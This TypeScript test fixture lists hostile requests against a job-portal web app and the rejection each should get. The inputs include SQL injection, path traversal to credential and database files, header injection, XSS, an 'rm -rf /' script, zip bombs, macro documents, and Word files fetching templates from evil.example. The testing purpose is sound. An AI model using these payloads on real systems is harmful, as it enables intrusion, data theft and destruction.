import {
  cutJpegWithThumbnail,
  denseDocx,
  docWithMacros,
  docxWith,
  docxOfTypes,
  docxThatFetches,
  docxWithMacros,
  docxWithRenamedMacros,
  jpegOfSize,
  pngOfSize,
  wideDoc,
  hugeDocx,
  lyingDocx,
  macroEnabledDocx,
  macroEnabledDocxInUtf16,
  overlappingDocx,
  spoiledDocx,
  wordDoc,
} from '@test/support/badFiles'
import { gzipSync } from 'node:zlib'
import {
  applicationFields,
  applicationForm,
  contactFields,
  contactForm,
  docBytes,
  docxBytes,
  enquiryForm,
  fileOf,
  internshipForm,
  jpegBytes,
  pdfBytes,
  pngBytes,
  resumeForm,
  zipBytes,
  type Changes,
} from '@test/support/builders'

/** A request that somebody sends in order to harm, and what it is answered. */
export type Hostile = {
  name: string
  path?: string
  method?: string
  headers?: Record<string, string>
  body?: string | FormData | Uint8Array<ArrayBuffer>
  /** In place of all the others: the bytes of the connection, and whether it is closed behind them. */
  raw?: string | Buffer
  ends?: boolean
  code: number
  /** The message of the envelope; undefined where the answer is a page, or nothing. */
  message?: string
}

const APPLY = '/web/job/apply-for-post'
const CATEGORY = '/web/job/get_jobs_by_category'
const CONTACT = '/web/contact-form/save'
const ENQUIRY = '/web/manpower-enquiry/save'
const RESUME = '/web/resume/save'
const INTERNSHIP = '/web/internship/save'

const UNREADABLE_FORM = 'The form could not be read. Please send it again.'
const UNREADABLE = 'The request could not be read.'
const INVALID = 'Invalid request.'
const TOO_MANY = 'The form has too many fields.'
const LONG_TEXT = 'A field of the form is too long.'
const ONE_HOST = 'The request must name one host.'
const TOO_LARGE = 'The request is too large.'
const NOTHING_HERE = 'There is nothing at this address.'
const NO_SUCH_FILE = 'There is no such file.'
const WRONG_METHOD = 'The method is not allowed.'
const MULTIPART_ONLY = 'Please send this form as multipart/form-data.'
const PACKED = 'Please send the request without Content-Encoding.'
const NO_CATEGORY = 'This category does not exist.'
const NAME_MISSING = 'Please enter value of Full name.'
const BAD_EMAIL = 'Invalid email address format.'
const CONTACT_SAVED = 'Thank you. Your message was sent.'
const APPLIED = 'Your application was sent. We will call you if your profile fits the job.'
const WORD_WARNING = 'Please select .doc file. Other type of files are not allowed.'
const APPLICATION_WARNING = 'Please select a .doc or .docx file. Other types of files are not allowed.'
const ATTACHMENT_WARNING = 'Please select a .pdf, .doc or .docx file. Other types of files are not allowed.'
const PHOTO_WARNING = 'Please select a .jpg or .png file. Other types of files are not allowed.'

const cannotBeUsed = (label: string) => `${label} contains characters that cannot be used.`
const tooLong = (label: string, limit: number) => `${label} is too long. The limit is ${limit} characters.`

const notReal = (name: string, warning: string) =>
  `${name} is not a real ${/\.\w+$/.exec(name)?.[0].toLowerCase()} file. ${warning}`
const incomplete = (name: string) => `${name} is not complete. Please choose it again.`
const macros = (name: string) => `${name} contains macros. Please save it without them and choose it again.`
const remote = (name: string) =>
  `${name} loads a template or an object from the internet. Please save it without that and choose it again.`
const bomb = (name: string) =>
  `${name} is too large when unpacked. Please save it again and choose the new file.`

const BOUNDARY = 'line'
const multipart = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` }
const json = { 'content-type': 'application/json' }
const urlencoded = { 'content-type': 'application/x-www-form-urlencoded' }
const END = `--${BOUNDARY}--\r\n`
const part = (head: string, body: string) =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; ${head}\r\n\r\n${body}\r\n`
const field = (name: string, value: string) => part(`name="${name}"`, value)
const repeat = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, n) => make(n)).join('')
const bytesOf = (text: string, encoding: BufferEncoding = 'latin1') =>
  new Uint8Array(Buffer.from(text, encoding))

const ofBody = (
  name: string,
  body: string | Uint8Array<ArrayBuffer>,
  code: number,
  message: string,
): Hostile => ({
  name,
  path: APPLY,
  headers: multipart,
  body,
  code,
  message,
})

/** All fields of an application and one more part. */
const wholeForm = (head: string, body: string, { more }: { more?: string } = {}) =>
  Object.entries(applicationFields)
    .map(([name, value]) => field(name, value))
    .join('') +
  part(more === undefined ? head : `${head}\r\n${more}`, body) +
  END

const jsonField = (text: string) =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="job_id"\r\nContent-Type: application/json\r\n\r\n${text}\r\n${END}`

const withType = (type: string) => ({ 'content-type': type })

const multipartBodies: Hostile[] = [
  { ...ofBody('no boundary', 'x', 422, UNREADABLE_FORM), headers: withType('multipart/form-data') },
  {
    ...ofBody('an empty boundary', field('job_id', '1') + END, 422, UNREADABLE_FORM),
    headers: withType('multipart/form-data; boundary='),
  },
  {
    ...ofBody('a boundary of a thousand characters', 'x', 422, UNREADABLE_FORM),
    headers: withType(`multipart/form-data; boundary=${'b'.repeat(1000)}`),
  },
  {
    ...ofBody('two boundaries', field('job_id', '1001') + END, 422, UNREADABLE_FORM),
    headers: withType('multipart/form-data; boundary=other; boundary=line'),
  },
  {
    ...ofBody('a boundary made for patterns', 'x', 422, UNREADABLE_FORM),
    headers: withType('multipart/form-data; boundary=(.*)+$'),
  },
  ofBody('another boundary', '--other\r\n\r\nx\r\n--other--\r\n', 422, UNREADABLE_FORM),
  ofBody('an empty body', '', 422, INVALID),
  ofBody('no end', field('job_id', '1001'), 422, UNREADABLE_FORM),
  ofBody('cut in a header', `--${BOUNDARY}\r\nContent-Dispo`, 422, UNREADABLE_FORM),
  ofBody('cut in a field', part('name="full_name"', 'Kir').slice(0, -2), 422, UNREADABLE_FORM),
  ofBody('cut in a file', part('name="resume"; filename="cv.doc"', 'abc').slice(0, -2), 422, UNREADABLE_FORM),
  ofBody('cut in an ignored file', part('name="x"; filename="a"', 'abc').slice(0, -2), 422, UNREADABLE_FORM),
  ofBody('only an end', END, 422, INVALID),
  ofBody('text after the end', `${field('job_id', '1001')}${END}and more`, 422, NAME_MISSING),
  ofBody('text before the beginning', `before\r\n${field('job_id', '1001')}${END}`, 422, NAME_MISSING),
  ofBody(
    'line ends of one character',
    (field('job_id', '1001') + END).replaceAll('\r', ''),
    422,
    UNREADABLE_FORM,
  ),
  ofBody('no name', part('filename="cv.doc"', 'abc') + END, 422, INVALID),
  ofBody('an empty name', part('name=""', 'abc') + END, 422, INVALID),
  ofBody('no disposition', `--${BOUNDARY}\r\n\r\nabc\r\n${END}`, 422, INVALID),
  ofBody('a line break in a name', part('name="full\r\n_name"', 'abc') + END, 422, INVALID),
  ofBody('a field named __proto__', field('__proto__', 'x') + END, 422, UNREADABLE_FORM),
  ofBody('a field named constructor', field('constructor', 'x') + END, 422, UNREADABLE_FORM),
  ofBody('a field named hasOwnProperty', field('hasOwnProperty', 'x') + END, 422, UNREADABLE_FORM),
  ofBody(
    'a file named __proto__',
    part('name="__proto__"; filename="a.doc"', 'x') + END,
    422,
    UNREADABLE_FORM,
  ),
  ofBody('a file named toString', part('name="toString"; filename="a.doc"', 'x') + END, 422, UNREADABLE_FORM),
  ofBody('a name with brackets', field('job_id[]', '1001') + END, 422, INVALID),
  ofBody('a name with a NUL', field('job_id\0', '1001') + END, 422, INVALID),
  ofBody('a thousand fields', repeat(1000, (n) => field(`f${n}`, 'x')) + END, 413, TOO_MANY),
  ofBody('a thousand times one field', repeat(1000, () => field('job_id', '1001')) + END, 413, TOO_MANY),
  ofBody(
    'a thousand files',
    repeat(1000, (n) => part(`name="f${n}"; filename="a.doc"`, 'x')) + END,
    413,
    TOO_MANY,
  ),
  ofBody('a field of two megabytes', field('full_name', 'x'.repeat(2_000_000)) + END, 413, LONG_TEXT),
  ofBody(
    'a name behind a hundred thousand spaces',
    field('full_name', `Kiran${' '.repeat(100_000)}evil`) + END,
    413,
    LONG_TEXT,
  ),
  ofBody('a name of a hundred thousand letters', field('n'.repeat(100_000), 'x') + END, 422, INVALID),
  ofBody(
    'a header of a megabyte',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="x"\r\nX-Long: ${'x'.repeat(1_000_000)}\r\n\r\nx\r\n${END}`,
    422,
    INVALID,
  ),
  ofBody(
    'ten thousand headers of a part',
    `--${BOUNDARY}\r\n${repeat(10_000, (n) => `X-${n}: x\r\n`)}\r\nx\r\n${END}`,
    422,
    INVALID,
  ),
  ofBody('a job id as a file', part('name="job_id"; filename="1001"', '1001') + END, 422, INVALID),
  ofBody('a resume as a field', field('job_id', '1001') + field('resume', 'x') + END, 422, NAME_MISSING),
  ofBody(
    'broken JSON in a field',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="job_id"\r\nContent-Type: application/json\r\n\r\n{"a":\r\n${END}`,
    422,
    UNREADABLE_FORM,
  ),
  ofBody(
    'an object in a field',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="job_id"\r\nContent-Type: application/json\r\n\r\n{"a":1}\r\n${END}`,
    422,
    NAME_MISSING,
  ),
  ofBody(
    'an unknown encoding of a field',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="job_id"\r\nContent-Transfer-Encoding: x\r\n\r\n1001\r\n${END}`,
    422,
    NAME_MISSING,
  ),
  ofBody(
    'multipart within multipart',
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="job_id"\r\nContent-Type: multipart/mixed; boundary=in\r\n\r\n--in--\r\n${END}`,
    422,
    NAME_MISSING,
  ),
  ofBody(
    'a file in Base64',
    wholeForm('name="resume"; filename="cv.docx"', docxBytes().toString('base64'), {
      more: 'Content-Transfer-Encoding: base64',
    }),
    422,
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  ofBody(
    'files within a file',
    wholeForm('name="resume"', '--in\r\nContent-Disposition: file; filename="cv.docx"\r\n\r\nx\r\n--in--', {
      more: 'Content-Type: multipart/mixed; boundary=in',
    }),
    422,
    'Please select resume',
  ),
  ofBody('a file without a name', wholeForm('name="resume"; filename=""', 'x'), 422, APPLICATION_WARNING),
  ofBody(
    'two names of a file, the first a program',
    wholeForm('name="resume"; filename="cv.exe"; filename="cv.docx"', 'x'),
    422,
    APPLICATION_WARNING,
  ),
  ofBody(
    'another kind of part',
    wholeForm('name="resume"; filename="cv.docx"', 'x').replaceAll('form-data;', 'attachment;'),
    422,
    INVALID,
  ),
  ofBody(
    'a name in percent signs that ends in a program',
    wholeForm('name="resume"; filename*=UTF-8\'\'cv.docx%00.exe', 'x'),
    422,
    APPLICATION_WARNING,
  ),
  ofBody(
    'lists in thirty thousand lists',
    jsonField('['.repeat(30_000) + ']'.repeat(30_000)),
    422,
    UNREADABLE_FORM,
  ),
  ofBody('JSON with __proto__ in a field', jsonField('{"__proto__":{"x":1}}'), 422, UNREADABLE_FORM),
  ...['gzip', 'deflate', 'br', 'GZip', 'identity, gzip', 'rot13'].map((coding) => ({
    ...ofBody(`a form packed as '${coding}'`, gzipSync(field('job_id', '1001') + END), 415, PACKED),
    headers: { ...multipart, 'content-encoding': coding },
  })),
  {
    ...ofBody(
      'a form packed as nothing',
      wholeForm('name="resume"; filename="cv.doc"', 'x'),
      422,
      notReal('cv.doc', APPLICATION_WARNING),
    ),
    headers: { ...multipart, 'content-encoding': 'Identity' },
  },
  ofBody('an end of one dash', `${field('job_id', '1001')}--${BOUNDARY}-`, 422, UNREADABLE_FORM),
  ofBody('another form behind the end', field('x', 'y') + END + wholeForm('name="a"', 'b'), 422, INVALID),
  ofBody(
    'a boundary that only begins so',
    `--${BOUNDARY}X${field('job_id', '1001').slice(6)}${END}`,
    422,
    INVALID,
  ),
  ofBody(
    'a name in percent signs behind one of a program',
    wholeForm('name="resume"; filename="cv.exe"; filename*=UTF-8\'\'cv.docx', 'x'),
    422,
    APPLICATION_WARNING,
  ),
  ofBody(
    'a program behind a resume',
    wholeForm('name="resume"; filename="cv.doc"', docBytes().toString('latin1')).replace(
      END,
      part('name="resume"; filename="cv.exe"', 'MZ') + END,
    ),
    422,
    APPLICATION_WARNING,
  ),
  { ...ofBody('a category without an end', field('industry_id', '1'), 422, UNREADABLE_FORM), path: CATEGORY },
  ofBody(
    'random bytes',
    new Uint8Array(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 256)),
    422,
    UNREADABLE_FORM,
  ),
  {
    ...ofBody(
      'bytes that are no UTF-8',
      bytesOf(field('name', 'caf\xe9') + field('email', 'a@b.co') + field('message', 'hello') + END),
      422,
      cannotBeUsed('Name'),
    ),
    path: CONTACT,
  },
]

const ofType = (name: string, type: string | undefined, code: number, message: string): Hostile => ({
  name: `a body of ${name}`,
  path: APPLY,
  headers: type === undefined ? {} : withType(type),
  body: bytesOf('{"job_id":"1001"}'),
  code,
  message,
})

const types: Hostile[] = [
  ofType('no type', undefined, 422, UNREADABLE),
  ofType('plain text', 'text/plain', 422, MULTIPART_ONLY),
  ofType('XML', 'application/xml', 422, UNREADABLE),
  ofType('a type that is none', 'a b c', 422, UNREADABLE),
  ofType('a type of slashes', '////', 422, UNREADABLE),
  ofType('JSON', 'application/json', 422, MULTIPART_ONLY),
  ofType('a urlencoded form', 'application/x-www-form-urlencoded', 422, MULTIPART_ONLY),
  ofType('mixed multipart', 'multipart/mixed; boundary=line', 422, UNREADABLE),
  ofType('a program', 'application/octet-stream', 422, UNREADABLE),
]

const ofCategory = (
  name: string,
  body: string,
  code: number,
  message: string,
  headers: Record<string, string> = json,
): Hostile => ({
  name,
  path: CATEGORY,
  headers,
  body,
  code,
  message,
})

const ofContact = (
  name: string,
  changes: Record<string, unknown>,
  code: number,
  message: string,
): Hostile => ({
  name: `a message with ${name}`,
  path: CONTACT,
  headers: json,
  body: JSON.stringify({ ...contactFields, ...changes }),
  code,
  message,
})

const plainBodies: Hostile[] = [
  ofCategory('broken JSON', '{"industry_id":', 422, UNREADABLE),
  ofCategory('empty JSON', '', 422, UNREADABLE),
  ofCategory('a JSON null', 'null', 422, INVALID),
  ofCategory('a JSON list', '["1"]', 422, INVALID),
  ofCategory('a JSON text', '"1"', 422, INVALID),
  ofCategory('a JSON number', '1e400', 422, INVALID),
  ofCategory('an object for an id', '{"industry_id":{"$ne":null}}', 422, INVALID),
  ofCategory('a list for an id', '{"industry_id":["1"]}', 422, INVALID),
  ofCategory('a truth for an id', '{"industry_id":true}', 422, INVALID),
  ofCategory('a number without end for an id', '{"industry_id":1e400}', 422, NO_CATEGORY),
  ofCategory('JSON with __proto__', '{"__proto__":{"industry_id":"1"}}', 422, UNREADABLE),
  ofCategory('JSON with constructor.prototype', '{"constructor":{"prototype":{"x":1}}}', 422, UNREADABLE),
  ofCategory('JSON with an escaped __proto__', '{"\\u005f_proto__":{"industry_id":"1"}}', 422, UNREADABLE),
  ofCategory('deep JSON', `{"industry_id":${'['.repeat(50_000)}${']'.repeat(50_000)}}`, 422, INVALID),
  ofCategory('JSON of a megabyte', JSON.stringify({ industry_id: 'x'.repeat(1_000_000) }), 413, TOO_LARGE),
  ofCategory('NUL in an id', '{"industry_id":"1\\u0000"}', 422, NO_CATEGORY),
  ofCategory('broken percent signs in an id', 'industry_id=%zz', 422, NO_CATEGORY, urlencoded),
  ofCategory(
    'a thousand ids',
    repeat(1000, () => 'industry_id=x&'),
    422,
    NO_CATEGORY,
    urlencoded,
  ),
  ...["1' or 1=1 --", '1; drop table job', '1 union select 1', '%', '_', '../1', '-1', '١'].map((id) =>
    ofCategory(`the id ${id}`, JSON.stringify({ industry_id: id }), 422, NO_CATEGORY),
  ),
  ofCategory('packed JSON', gzipSync('{"industry_id":"1"}').toString('latin1'), 415, PACKED, {
    ...json,
    'content-encoding': 'gzip',
  }),
  ofContact('an object for a name', { name: { toString: 'x' } }, 422, INVALID),
  ofContact('a list for a message', { message: ['a', 'b'] }, 422, INVALID),
  ofContact('a lone surrogate', { name: '\ud800' }, 422, cannotBeUsed('Name')),
  ofContact('a NUL', { name: 'a\0b' }, 422, cannotBeUsed('Name')),
  ofContact('a bell', { message: 'a\u0007b' }, 422, cannotBeUsed('Message')),
  ofContact('a line break in a name', { name: 'a\r\nBcc: x@y.co' }, 422, cannotBeUsed('Name')),
  ofContact('a line break in an address', { email: 'a@b.co\r\nBcc: x@y.co' }, 422, BAD_EMAIL),
  ofContact('two addresses', { email: 'a@b.co,c@d.co@e.co' }, 422, BAD_EMAIL),
  ofContact('an address without a name', { email: '@b.co' }, 422, BAD_EMAIL),
  ofContact('a slow address', { email: `a@${'.a'.repeat(40_000)}@` }, 422, BAD_EMAIL),
  ofContact(
    'a message of six thousand letters',
    { message: 'x'.repeat(6000) },
    422,
    tooLong('Message', 5000),
  ),
  ...['\u200b', '\u00ad\u2060', '\u3164', '\u202e\u2800 \u200d'].map((name) =>
    ofContact(`a name of ${JSON.stringify(name)}`, { name }, 422, 'Name is required.'),
  ),
  ofContact('a name of spaces', { name: ' \t\u00a0\u3000 ' }, 422, 'Name is required.'),
  {
    ...ofContact('urlencoded NUL', {}, 422, cannotBeUsed('Name')),
    headers: urlencoded,
    body: 'name=a%00b&email=a%40b.co&message=x',
  },
  {
    ...ofContact('broken percent signs', {}, 422, BAD_EMAIL),
    headers: urlencoded,
    body: 'name=%zz&email=%&message=%ff',
  },
]

type MakeForm = (changes: Changes) => FormData

const ofForm =
  (path: string, makeForm: MakeForm) =>
  (name: string, changes: Changes, message: string, code = 422): Hostile => ({
    name: `${path.split('/')[2]}: ${name}`,
    path,
    body: makeForm(changes),
    code,
    message,
  })

const application = ofForm(APPLY, applicationForm)
const resume = ofForm(RESUME, resumeForm)
const internship = ofForm(INTERNSHIP, internshipForm)
const enquiry = ofForm(ENQUIRY, enquiryForm)
const contact = ofForm(CONTACT, contactForm)

/** Ways to name a thing that is not there. */
const noIds = ["1' or '1'='1", '99999999', '0x1', '__proto__']

const values: Hostile[] = [
  ...noIds.flatMap((id) => [
    application(`the job ${id}`, { job_id: id }, 'This job is no longer open.'),
    application(`the location ${id}`, { current_location: id }, INVALID),
    resume(`the industry ${id}`, { industry_id: id }, INVALID),
    resume(`the department ${id}`, { department_id: id }, INVALID),
    resume(`the role ${id}`, { role_id: id }, INVALID),
    internship(`the location ${id}`, { current_location: id }, INVALID),
  ]),
  application('a CTC that is none', { current_ctc_from: '101' }, INVALID),
  application('a CTC below nothing', { current_ctc_to: '-1' }, INVALID),
  application('a CTC to negotiate where there is none', { current_ctc_to: 'negotiable' }, INVALID),
  resume('an experience of half a year', { experience_from: '0.5' }, INVALID),
  resume('an experience of ages', { experience_to: '31' }, INVALID),
  enquiry('services that are no list', { service_required: 'Recruitment' }, INVALID),
  enquiry('services that are an object', { service_required: '{"0":"Recruitment"}' }, INVALID),
  enquiry('a service that is none', { service_required: '["Spying"]' }, INVALID),
  enquiry('a service that is a list', { service_required: '[["Recruitment"]]' }, INVALID),
  enquiry(
    'services in fifty thousand lists',
    { service_required: '['.repeat(50_000) },
    tooLong('Services Required', 1000),
  ),
  enquiry('a mobile of eleven figures', { mobile: '98765432101' }, 'Invalid length of Mobile no.'),
  enquiry(
    'a website of five hundred letters',
    { company_website: 'x'.repeat(500) },
    tooLong('Company Website', 300),
  ),
  application('a mobile of eleven figures', { mobile: '98765432101' }, tooLong('Mobile no', 10)),
  application(
    'a name of two hundred and one letters',
    { full_name: 'x'.repeat(201) },
    tooLong('Full name', 200),
  ),
  ...['\0', '\u0007', '\u001b[2J', '\u0085', '\ufffd'].flatMap((bad) => [
    application(`${JSON.stringify(bad)} in a name`, { full_name: `a${bad}b` }, cannotBeUsed('Full name')),
    enquiry(
      `${JSON.stringify(bad)} in a company`,
      { company_name: `a${bad}b` },
      cannotBeUsed('Company Name'),
    ),
    resume(`${JSON.stringify(bad)} in a mobile`, { mobile: `9${bad}8` }, cannotBeUsed('Mobile no')),
  ]),
]

const PROGRAM = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const ELF = Buffer.from('7f454c4602010100', 'hex')
const PAGE = Buffer.from('<!doctype html><script>alert(1)</script>')
const SCRIPT = Buffer.from('#!/bin/sh\nrm -rf /\n')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
const SPREADSHEET = zipBytes({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' })
const JAVA = zipBytes({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'x' })

const wrongContents: [string, Buffer][] = [
  ['a program', PROGRAM],
  ['a program of Linux', ELF],
  ['a web page', PAGE],
  ['a script', SCRIPT],
  ['a drawing', SVG],
  ['a PDF behind a space', Buffer.concat([Buffer.from(' '), pdfBytes()])],
]

const files: Hostile[] = [
  ...wrongContents.flatMap(([what, bytes]) => [
    application(
      `${what} named .docx`,
      { resume: fileOf(bytes, 'cv.docx') },
      notReal('cv.docx', APPLICATION_WARNING),
    ),
    resume(`${what} named .doc`, { resume: fileOf(bytes, 'CV.DOC') }, notReal('CV.DOC', WORD_WARNING)),
    enquiry(
      `${what} named .pdf`,
      { company_attachment: fileOf(bytes, 'a.pdf') },
      notReal('a.pdf', ATTACHMENT_WARNING),
    ),
    internship(`${what} named .png`, { photo: fileOf(bytes, 'me.png') }, notReal('me.png', PHOTO_WARNING)),
  ]),
  ...[
    'cv.exe',
    'cv.docm',
    'cv.doc.js',
    'cv.docx.',
    'cv',
    '.doc/x',
    'cv.dοc',
    'cv.exe\0.doc.exe',
    'cv.docx:stream',
    'cv．docx',
    'cv%2edocx',
    'cv.docx. .',
  ].map((name) =>
    application(
      `the name ${JSON.stringify(name)}`,
      { resume: fileOf(docBytes(), name) },
      APPLICATION_WARNING,
    ),
  ),
  application(
    'a spreadsheet named .docx',
    { resume: fileOf(SPREADSHEET, 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'a Java archive named .docx',
    { resume: fileOf(JAVA, 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'a .docx named .doc',
    { resume: fileOf(docxBytes(), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  application('a .png named .jpg', { photo: fileOf(pngBytes(), 'me.jpg') }, notReal('me.jpg', PHOTO_WARNING)),
  application('a drawing as a photo', { photo: fileOf(SVG, 'me.svg') }, PHOTO_WARNING),
  application('macros by type', { resume: fileOf(macroEnabledDocx(), 'cv.docx') }, macros('cv.docx')),
  application(
    'macros by type in UTF-16',
    { resume: fileOf(macroEnabledDocxInUtf16(), 'cv.docx') },
    macros('cv.docx'),
  ),
  resume('macros in a part', { resume: fileOf(docxWithMacros(), 'cv.docx') }, macros('cv.docx')),
  internship('macros in a .doc', { resume: fileOf(docWithMacros(), 'cv.doc') }, macros('cv.doc')),
  enquiry(
    'macros in an attachment',
    { company_attachment: fileOf(docxWithMacros(), 'a.docx') },
    macros('a.docx'),
  ),
  application('a dense archive', { resume: fileOf(denseDocx(), 'cv.docx') }, bomb('cv.docx')),
  application('an archive of a gigabyte', { resume: fileOf(hugeDocx(), 'cv.docx') }, bomb('cv.docx')),
  application(
    'an archive of shared bytes',
    { resume: fileOf(overlappingDocx(), 'cv.docx') },
    bomb('cv.docx'),
  ),
  application(
    'an archive that lies about its sizes',
    { resume: fileOf(lyingDocx(), 'cv.docx') },
    bomb('cv.docx'),
  ),
  resume('an archive written over', { resume: fileOf(spoiledDocx(), 'cv.docx') }, incomplete('cv.docx')),
  internship(
    'macros in numbers for letters',
    { resume: fileOf(docxOfTypes('application/vnd.ms-word.document.macro&#69;nabled.main+xml'), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a template of the internet',
    { resume: fileOf(docxThatFetches('attachedTemplate', 'https://evil.example/a.dotm'), 'cv.docx') },
    remote('cv.docx'),
  ),
  enquiry(
    'an object of the internet',
    { company_attachment: fileOf(docxThatFetches('oleObject', 'mhtml:http://evil.example/a!x'), 'a.docx') },
    remote('a.docx'),
  ),
  resume(
    'a path out of the archive',
    {
      resume: fileOf(docxWith({ name: '../../evil.exe', content: Buffer.from('x') }), 'cv.docx'),
    },
    notReal('cv.docx', WORD_WARNING),
  ),
  resume('half a .doc', { resume: fileOf(wordDoc().subarray(0, 4000), 'cv.doc') }, incomplete('cv.doc')),
  application(
    'a workbook named .doc',
    { resume: fileOf(wordDoc('Workbook'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  application(
    'rich text named .doc',
    { resume: fileOf(Buffer.from('{\\rtf1 hello}'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  application(
    'a mail named .doc',
    { resume: fileOf(Buffer.from('MIME-Version: 1.0\r\n'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  internship(
    'a GIF named .jpg',
    { photo: fileOf(Buffer.from('GIF89a<script>'), 'me.jpg') },
    notReal('me.jpg', PHOTO_WARNING),
  ),
  application(
    'macros under another name',
    { resume: fileOf(docxWithRenamedMacros(), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a relation to macros',
    { resume: fileOf(docxThatFetches('vbaProject', 'settings.dat'), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a workbook with macros within',
    { resume: fileOf(docxWith({ name: 'word/embeddings/a.XLSM', content: SCRIPT }), 'cv.docx') },
    macros('cv.docx'),
  ),
  application(
    'a program within',
    { resume: fileOf(docxWith({ name: 'word/embeddings/a.exe', content: PROGRAM }), 'cv.docx') },
    'cv.docx contains a program. Please save it without the program and choose it again.',
  ),
  ...['/etc/passwd', 'word/a\0.xml'].map((name) =>
    application(
      `a part named ${JSON.stringify(name)}`,
      { resume: fileOf(docxWith({ name, content: SCRIPT }), 'cv.docx') },
      notReal('cv.docx', APPLICATION_WARNING),
    ),
  ),
  application(
    'an installer of wide sectors named .doc',
    { resume: fileOf(wideDoc('Property'), 'cv.doc') },
    notReal('cv.doc', APPLICATION_WARNING),
  ),
  application(
    'a picture of ten milliard points',
    { photo: fileOf(pngOfSize(100_000, 100_000), 'me.png') },
    bomb('me.png'),
  ),
  application('a picture of nothing', { photo: fileOf(pngOfSize(0, 9), 'me.png') }, incomplete('me.png')),
  application(
    'a photo of four milliard points',
    { photo: fileOf(jpegOfSize(65_535, 65_535), 'me.jpg') },
    bomb('me.jpg'),
  ),
  application(
    'one byte',
    { resume: fileOf(Buffer.from('P'), 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'a resume of one byte too many',
    { resume: fileOf(docBytes(5 * 1024 * 1024 + 1), 'cv.doc') },
    'cv.doc is too large. The limit is 5 MB.',
    413,
  ),
  application(
    'a locked archive',
    { resume: fileOf(docxWith({ name: 'x', content: SCRIPT, says: { flags: 1 } }), 'cv.docx') },
    notReal('cv.docx', APPLICATION_WARNING),
  ),
  application(
    'half a .docx',
    { resume: fileOf(docxBytes().subarray(0, 600), 'cv.docx') },
    incomplete('cv.docx'),
  ),
  enquiry(
    'half a PDF',
    { company_attachment: fileOf(pdfBytes(20_000).subarray(0, 9000), 'a.pdf') },
    incomplete('a.pdf'),
  ),
  internship(
    'half a photo',
    { photo: fileOf(jpegBytes(9000).subarray(0, 4000), 'me.jpg') },
    incomplete('me.jpg'),
  ),
  resume(
    'half a photo with a whole small one',
    { photo: fileOf(cutJpegWithThumbnail(), 'me.jpeg') },
    incomplete('me.jpeg'),
  ),
  resume('half a picture', { photo: fileOf(pngBytes().subarray(0, 40), 'me.png') }, incomplete('me.png')),
  application('an empty resume', { resume: new File([], 'cv.doc') }, 'cv.doc is empty.'),
  enquiry('an empty attachment', { company_attachment: new File([], 'a.pdf') }, 'a.pdf is empty.'),
  resume('an empty photo', { photo: new File([], 'me.png') }, 'me.png is empty.'),
  resume(
    'a resume of six megabytes',
    { resume: fileOf(docBytes(6_000_000), 'cv.doc') },
    'cv.doc is too large. The limit is 5 MB.',
    413,
  ),
]

/** Without a message the answer is a page. */
const ofAddress = (method: string, path: string, code: number, message?: string): Hostile => ({
  name: `${method} ${path.length > 60 ? `${path.slice(0, 60)}…` : path}`,
  method,
  path,
  ...(method === 'GET' || method === 'OPTIONS' ? {} : { headers: json, body: '{' }),
  code,
  message,
})

const addresses: Hostile[] = [
  ...[APPLY, RESUME, INTERNSHIP, ENQUIRY, CONTACT, CATEGORY].map((path) =>
    ofAddress('GET', path, 405, WRONG_METHOD),
  ),
  ...['PUT', 'PATCH', 'DELETE', 'OPTIONS'].flatMap((method) => [
    ofAddress(method, APPLY, 405, WRONG_METHOD),
    ofAddress(method, '/web/job/get', 405, WRONG_METHOD),
    ofAddress(method, '/about-us', 405, WRONG_METHOD),
  ]),
  ofAddress('POST', '/web/job/get', 405, WRONG_METHOD),
  ofAddress('POST', '/about-us', 405, WRONG_METHOD),
  ofAddress('POST', '/web/job/delete', 404, NOTHING_HERE),
  ...[
    '/web/%zz',
    '/web/%',
    '/web/%ff',
    '/web/job/get%00',
    '/web/job/get%0d%0aSet-Cookie:%20a=b',
    '/web/..%2f..%2fetc%2fpasswd',
    '/web/%2e%2e%2fjob%2fget',
    '/web/files/1',
    `/web/${'x'.repeat(10_000)}`,
    "/web/job/get'%20or%201=1",
    '/web/__proto__',
  ].map((path) => ofAddress('GET', path, 404, NOTHING_HERE)),
  ...[
    '/uploads/..%2f..%2fdata%2fportal.db',
    '/uploads/%2e%2e/%2e%2e/data/portal.db',
    '/assets/..%5c..%5cdata%5cportal.db',
    '/media/%2fetc%2fpasswd',
    '/images/%00.png',
    '/portal.db',
    '/portal.db-wal',
    '/.env',
    '/about-us/..%2f..%2fdata',
    '/package.json',
    '//web/job/get.txt',
    '/uploads/',
  ].map((path) => ofAddress('GET', path, 404, NO_SUCH_FILE)),
  ...[
    '/%',
    '/100%?q=%',
    '/about-us%ff',
    '/%00',
    '/.git/config',
    '/a%0d%0aSet-Cookie:x',
    '/..;/',
    '/full-time-jobs%00',
    '//evil',
    '/job-details?s=%00',
    '/job-details?s=%ff',
    '/job-by-categories?id=__proto__',
    `/${'/'.repeat(15_000)}x`,
    `/${'.'.repeat(15_000)}/x`,
  ].map((path) => ofAddress('GET', path, 404)),
]
